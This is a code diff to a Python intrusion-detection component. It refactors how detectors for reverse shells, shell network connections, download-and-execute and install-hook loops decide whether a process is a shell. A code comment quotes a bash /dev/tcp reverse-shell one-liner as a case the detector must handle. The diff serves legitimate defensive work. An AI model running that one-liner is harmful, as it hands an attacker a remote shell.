@@ -220,7 +220,7 @@ class Detectors:
         parent = self._parent(proc)
         parent_name = self.graph.name_of(parent) if parent else ""
         technique = interpreter_one_liner(name, event.args)
-        if technique and any(fnmatchcase(parent_name, p) for p in self.lists.reverse_shell_parents):
+        if technique and self.lists.is_reverse_shell_parent(parent_name):
             for rule in self.rules.by_detector(catalog.INTERPRETER_REVERSE_SHELL.name):
                 self._pending.setdefault(key, []).append(_Pending(rule, event, technique, ELASTIC_WINDOW_NS))
         tool = self.lists.tunnel_for(name if name != self.lists.program(event.filename, event.args)
@@ -320,7 +320,7 @@ class Detectors:
                                "transport": event.transport}
         out = []
         exe = proc.filename if proc else ""
-        if proc is not None and self.graph.name_of(proc) in self.lists.shells:
+        if proc is not None and self.lists.is_shell(self.graph.name_of(proc)):
             for rule in self.rules.by_detector(catalog.SHELL_NETWORK_CONNECTION.name):
                 sig = self._emit(rule, event, proc, f"shell {exe} connected to {event.daddr}:{event.dport}", **net)
                 if sig:
@@ -351,7 +351,7 @@ class Detectors:
         key = proc.key if proc else process_key(event.pid, event.start_time)
         if proc is None or self.graph.is_legitimate(key):
             return []
-        if self.graph.name_of(proc) in self.lists.shells and any(
+        if self.lists.is_shell(self.graph.name_of(proc)) and any(
                 self.graph.opener(c.sock_id) == key or not c.sock_id for c in self.graph.live_conns(key)):
             # A shell's redirection of the socket it opened itself (/dev/tcp) precedes the exec that the
             # exec probe judges (`bash -i >& /dev/tcp/H/P 0>&1`); on its own it is a probe's redirection.
@@ -417,7 +417,7 @@ class Detectors:
                       f"({via.hops} hop{'s' if via.hops > 1 else ''})")
             return self._emit_conn(_shell_detector(conn), event, proc, reason, conn)
         # Input from a download, output stays local: download-and-execute (and a beacon when it repeats).
-        if ("download", key) in self._judged or name not in self.lists.shells:
+        if ("download", key) in self._judged or not self.lists.is_shell(name):
             return []
         feeder = next((r for r in verdict.inputs if r.hops == 1 and not r.conn.ingress), None)
         if feeder is None:
@@ -455,7 +455,7 @@ class Detectors:
         ctx = context_of(holder)
         # Inside a package install, a hook's own script holding a connection and running shell commands back
         # to itself counts too; a downloader running the binary it fetched (esbuild's --version check) does not.
-        in_install = ctx is not None and not ctx.is_ci and self.graph.program(child.key) in self.lists.shells
+        in_install = ctx is not None and not ctx.is_ci and self.lists.is_shell(self.graph.program(child.key))
         if not (self.graph.suspicious_program(holder_key) or in_install):
             return []
         self._judged.add(("loop", holder_key))
